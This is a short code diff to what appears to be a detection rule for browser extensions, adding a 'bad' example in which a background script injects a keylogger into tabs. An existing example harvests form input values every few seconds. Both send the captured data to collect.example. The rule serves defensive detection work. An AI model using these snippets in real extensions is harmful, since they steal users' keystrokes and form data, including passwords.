@@ -47,6 +47,10 @@ export default defineRule({
   examples: {
     bad: [
       sample({
+        background:
+          'chrome.tabs.onUpdated.addListener((id) => { chrome.tabs.executeScript(id, { code: \'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });\' }); });',
+      }),
+      sample({
         content:
           "setInterval(() => { let o = {}; document.querySelectorAll('input').forEach(i => o[i.name] = i.value); fetch('https://collect.example/f', {method: 'POST', body: JSON.stringify(o)}) }, 3000);",
       }),
